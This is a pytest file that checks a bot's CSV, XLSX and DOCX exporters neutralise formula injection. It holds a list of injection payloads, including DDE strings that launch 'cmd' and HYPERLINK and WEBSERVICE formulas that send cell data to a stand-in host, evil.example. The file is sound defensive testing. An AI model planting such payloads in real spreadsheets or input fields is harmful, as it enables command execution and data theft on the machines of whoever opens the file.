"""Whatever somebody writes or is called is words in every table and document that leaves the house: no cell and no
field of it is a formula. The exports are found in the code, so that a new one stands here or the test fails.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from xml.etree import ElementTree

import pytest

from bot import documents_docx, enrolment, exports, report_cards, spreadsheets, study_tables, survey_tables
from bot import work_report_evidence as evidence
from bot.documents import Blank, Block, Column, Document, Ref, Section, Table, Text
from bot.spreadsheets import Cell, Csv, Heading, Leaf
from bot.texts import Catalogue
from bot.work_report import Writer
from models.people import Person
from models.tallies import Cut
from models.union.gatherings import Attendance, Gathering, Part
from models.union.gatherings import Kind as Sort
from models.union.reporting import Figure, Findings, Query
from models.union.work_reports import Kind, WorkReport
from tests.campus import settings
from tests.house import HOUSE
from tests.security.attacked import ROOT
from tests.surveying.results import ASKED, RESULTS, TOLD, group, three

SETTINGS = settings("http://127.0.0.1:1", "sqlite:///unused.db")
T = Catalogue.load(SETTINGS.timezone)["en"]
BEGIN = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""What begins a formula, for one spreadsheet or another (OWASP, "CSV Injection")."""
FORMS = (
    *(f"{begin}1+cmd|' /C calc'!A0" for begin in (*BEGIN, "\t=", "\r\n=")),
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    '=WEBSERVICE("http://evil.example")\x00\x0b',
    '{=DDE("cmd";"/C calc";"x")}',
    '" & "=1+1',
    "x',=1+1",
    ";=1+1",
)
"""Formulas, and what might break out of a cell to become one."""
FEW = (FORMS[0], FORMS[-4])
WRITES = frozenset({"Leaf", "Csv", "Workbook", "writer", "DictWriter", "Docx"})
"""Whoever calls one of these writes a file for a spreadsheet or a word processor."""

LIBRARIES = re.compile(r"\bopenpyxl\b|\bdocx\b|import csv\b|bot\.spreadsheets import|from csv\b|xlsxwriter|pandas")

Made = tuple[str, bytes]
"""What kind of file, and its bytes."""


def exporters() -> set[str]:
    """`module:function or class` of all that writes such files."""
    found = set()
    for room in ("bot", "handlers", "models", "scheduler"):
        for path in (ROOT / room).rglob("*.py"):
            name, text = ".".join(path.relative_to(ROOT).with_suffix("").parts), path.read_text("utf-8")
            if not LIBRARIES.search(text):
                continue
            for top in ast.parse(text).body:
                called = {
                    getattr(each.func, "attr", None) or getattr(each.func, "id", "")
                    for each in ast.walk(top)
                    if isinstance(each, ast.Call)
                }
                if called & WRITES:
                    found.add(f"{name}:{getattr(top, 'name', '')}")
    return found - {"bot.spreadsheets:Csv", "bot.spreadsheets:Leaf"}


# ---------------------------------------------------------------- each of them, with these words wherever words stand


def _tickets(suffix: str, words: str, folder: Path) -> Made:
    """The rows as the database gives them."""
    path, at = folder / f"t.{suffix}", datetime(2026, 10, 12, 1, 30, tzinfo=SETTINGS.timezone)
    moments = dict.fromkeys(("filed_at", "reply_due", "replied_at", "resolve_due", "resolved_at", "closed_at"), at)
    numbers = dict.fromkeys(("id", "requesters", "urged", "reopenings", "station_id", "named"), 1)
    row = {
        "kind": "complaint",
        "category": "water",
        "building": "e1",
        "state": "closed",
        "holder": words,
        "filer": words,
        "station": {"en": words},
        **moments,
        **numbers,
    }
    columns = (*exports.COLUMNS, exports.FILER)
    sheet: exports.Sheet = (exports._Xlsx if suffix == "xlsx" else exports._Csv)(path, columns, T)
    sheet.add([exports._Words(columns, T, SETTINGS).row(row)])
    sheet.close([[words, words, 1]])
    return suffix, path.read_bytes()


def _survey(suffix: str, words: str, folder: Path) -> Made:
    path, said = folder / f"s.{suffix}", three(words, words, words)
    asked = tuple(
        replace(each, text=said, options=tuple(replace(option, text=said) for option in each.options))
        for each in ASKED.questions
    )
    told = replace(
        TOLD,
        questionnaire=replace(ASKED, title=said, questions=asked),
        results=replace(RESULTS, cuts={**RESULTS.cuts, Cut.COLLEGE: {words: group(2, 6, 14, 40, 18)}}),
    )
    (survey_tables.xlsx if suffix == "xlsx" else survey_tables.csv)(told, path, T, SETTINGS)
    return suffix, path.read_bytes()


def _study(words: str, now: datetime) -> Made:
    ends, out = now + timedelta(hours=2), io.BytesIO()
    it = Gathering(id=7, kind=Sort.TRAINING, titles={"en": words}, place=words, starts_at=now, ends_at=ends)
    found = [(Person(id=1, name=words), Attendance(part=Part.CAME, signed_in_at=now, confirmed_by_id=2))]
    study_tables.xlsx(it, found, {1: [{"en": words}]}, out, T, now)
    return "xlsx", out.getvalue()


def _report_card(words: str, now: datetime) -> Made:
    sealed = HOUSE.vault.seal(json.dumps([words, words]).encode(), "roster:x")
    row = SimpleNamespace(
        sealed=sealed,
        number_tag="x",
        name=words,
        titles={"en": words},
        role={"en": words},
        organiser={"en": words},
        trains=False,
        minutes=60,
        starts_at=now,
        ends_at=now,
        level="university",
        confirmed_by=words,
        confirmed_at=now,
        disputed=True,
        surveys=3,
    )
    unknown = SimpleNamespace(**{**vars(row), "sealed": None})
    rows: list[Any] = [row, unknown]
    return "xlsx", report_cards.xlsx(rows, rows[:1], SETTINGS.work_calendar().semesters[0], HOUSE.vault, T, SETTINGS)


def _evidence(words: str, now: datetime) -> Made:
    figures = (
        Figure("filed", Query.FILED, 3, 2, names={"en": words}, numbers={"of": "1-2"}),
        Figure("project", Query.PROJECTS, 5, 1, about={"number": 1, "title": words}, numbers={"of": "1"}),
    )
    queries: dict[str, list[str]] = {Query.FILED: [words], Query.PROJECTS: [words]}
    report = WorkReport(kind=Kind.WORK, period="2026-2027-1", edition=1, since=now, until=now, words={})
    return "xlsx", evidence.book(Writer(report, Findings(now, 10, figures, (), queries), SETTINGS, T))


def _docx(words: str) -> Made:
    blocks: list[Block] = [
        Text([words]),
        Text([words], "code"),
        Text([words], "small"),
        Blank(words),
        Blank("here", words),
        Table([Column(words, 10), Column("n", 5, number=True)], [[[words], [Ref("s0", words)]]], words),
    ]
    described = Document(
        "en", words, words, words, words, [(words, words)], words, ("", "", ""), [Section(words, blocks)]
    )
    return "docx", documents_docx.write(described)


def _codes(words: str, folder: Path, now: datetime) -> Made:
    path = folder / "codes.csv"
    enrolment._write(path, [(words, words, words, words)], now)
    assert path.stat().st_mode & 0o777 == 0o600, "they open the door, and are their owner's alone"
    return "csv", path.read_bytes()


MAKERS: dict[str, Callable[[str, Path, datetime], Made]] = {
    "bot.exports:_Xlsx": lambda words, folder, now: _tickets("xlsx", words, folder),
    "bot.exports:_Csv": lambda words, folder, now: _tickets("csv", words, folder),
    "bot.survey_tables:xlsx": lambda words, folder, now: _survey("xlsx", words, folder),
    "bot.survey_tables:csv": lambda words, folder, now: _survey("csv", words, folder),
    "bot.study_tables:xlsx": lambda words, folder, now: _study(words, now),
    "bot.report_cards:xlsx": lambda words, folder, now: _report_card(words, now),
    "bot.work_report_evidence:book": lambda words, folder, now: _evidence(words, now),
    "bot.documents_docx:write": lambda words, folder, now: _docx(words),
    "bot.enrolment:_write": _codes,
}


def test_every_export_is_known() -> None:
    assert exporters() == set(MAKERS)


# ---------------------------------------------------------------- and read as a spreadsheet reads it

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
WORD = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def cells(kind: str, data: bytes) -> Iterator[str]:
    """Every text of a file, as it stands in it. Fails on whatever is worked out when it is opened."""
    if kind == "csv":
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True):
            for cell in row:
                assert not cell.startswith(BEGIN), repr(cell)
                yield cell[1:] if cell[0:1] == "'" and cell[1:].startswith(BEGIN) else cell
        return
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        for name in packed.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            tree = ElementTree.fromstring(packed.read(name))
            assert not [each for each in tree.iter() if each.get("TargetMode") == "External"], name
            for each in tree.iter():
                tag, text = each.tag, each.text or ""
                assert tag not in (f"{SHEET}f", f"{WORD}fldSimple"), (name, text)
                if tag == f"{SHEET}definedName":
                    assert re.fullmatch(r"'[^']+'!\$[A-Z\d:$]+", text), "what is filtered, and what is printed"
                if tag == f"{WORD}instrText":
                    assert text in ("PAGE", "NUMPAGES"), "nothing but the pages' numbers is worked out"
                if tag == f"{SHEET}t":
                    yield text
                if tag == f"{WORD}p":
                    yield "".join(part.text or "" for part in each.iter(f"{WORD}t"))


def plain(text: str) -> str:
    """Without what a file of XML cannot hold or turns into a break of the line."""
    return "".join(character for character in text if character.isprintable() and character != "\t")


@pytest.mark.parametrize("forms", [FEW, pytest.param(FORMS, marks=pytest.mark.long)], ids=["few", "all"])
@pytest.mark.parametrize("exporter", MAKERS)
def test_no_words_are_a_formula_in_any_export(
    exporter: str, forms: tuple[str, ...], tmp_path: Path, now: datetime
) -> None:
    for words in forms:
        found = [plain(each) for each in cells(*MAKERS[exporter](words, tmp_path, now))]
        assert [each for each in found if plain(words) in each], f"{words!r} did not get there"


def test_headings_are_words_as_well(tmp_path: Path) -> None:
    """Today they are the program's own; tomorrow one may be a question's."""
    from openpyxl import Workbook

    for words in FEW:
        book, out = Workbook(write_only=True), io.BytesIO()
        Leaf(book, "1", [Heading(words, 10)]).add([[words]])
        book.save(out)
        assert [plain(each) for each in cells("xlsx", out.getvalue())] == [plain(words)] * 2
        table = Csv(tmp_path / "t.csv", [words])
        table.add([[words]])
        table.close()
        assert list(cells("csv", (tmp_path / "t.csv").read_bytes())) == [words] * 2


@pytest.mark.parametrize("value", [1, 0.5, None, datetime(2026, 1, 1)])  # noqa: DTZ001
def test_what_is_no_text_stays_what_it_is(value: Cell) -> None:
    assert not isinstance(spreadsheets._plain(value), str) or not str(spreadsheets._plain(value)).startswith("'")
